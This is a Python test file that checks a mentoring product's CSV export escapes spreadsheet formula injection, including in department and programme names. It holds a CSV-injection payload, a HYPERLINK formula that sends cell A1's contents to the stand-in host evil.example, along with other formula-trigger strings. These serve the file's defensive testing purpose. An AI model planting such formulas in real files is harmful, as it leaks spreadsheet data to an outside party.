"""CSV written by the product never runs as a spreadsheet formula."""

import csv
import io
from datetime import UTC, datetime

from coach.csvfile import safe_cell
from coach.kpis import GroupRow, KpiReport

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def test_cells_that_a_spreadsheet_would_run_are_escaped_and_numbers_stay_numbers():
    for dangerous in (PAYLOAD, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\r=1"):
        assert safe_cell(dangerous) == "'" + dangerous
    for kept in ("Finance", "-0.25", "+44", "3.5", 4, None, -1.5, "a=b"):
        assert safe_cell(kept) == kept


def test_the_kpi_csv_escapes_a_department_named_as_a_formula():
    report = KpiReport(
        programme_id=1,
        programme_name="=1+1",
        generated_at=datetime.now(UTC),
        min_cohort_size=3,
        metrics={"match_rate": 0.5},
        breakdowns={"mentee_department": [GroupRow(group=PAYLOAD, people=4, values={})]},
    )
    rows = list(csv.reader(io.StringIO(report.to_csv())))
    groups = [row[2] for row in rows if row[0] == "by_mentee_department"]
    assert groups == ["'" + PAYLOAD]
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
